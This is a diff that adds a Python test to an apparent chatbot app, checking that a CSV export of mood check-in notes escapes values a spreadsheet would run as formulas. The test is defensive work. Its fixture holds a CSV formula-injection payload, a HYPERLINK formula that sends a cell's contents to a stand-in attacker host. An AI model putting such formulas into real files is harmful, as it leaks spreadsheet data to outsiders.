@@ -1378,3 +1378,15 @@ def test_a_reminder_changed_to_a_part_of_the_day_moves_to_the_time_picked_for_it
     assert sorted((r["kind"], str(r["local_time"])[:5]) for r in action_store.reminders.list("web:anna")) == [
         ("checkin", "20:00"), ("coping", at)]
     assert responses(dispatcher) == ["utter_reminder_changed", "utter_reminder_time_picked"]
+
+
+def test_an_exported_note_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() -> None:
+    import csv
+    import io
+
+    note = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    rows = list(csv.DictReader(io.StringIO(checkins_csv({"checkins": [{"mood": 4, "note": note},
+                                                                       {"mood": 6, "note": "-5 mins of walking"},
+                                                                       {"mood": 7, "note": "a good day"}]}))))
+    assert [r["note"] for r in rows] == ["'" + note, "'-5 mins of walking", "a good day"]
+    assert rows[0]["mood"] == "4"
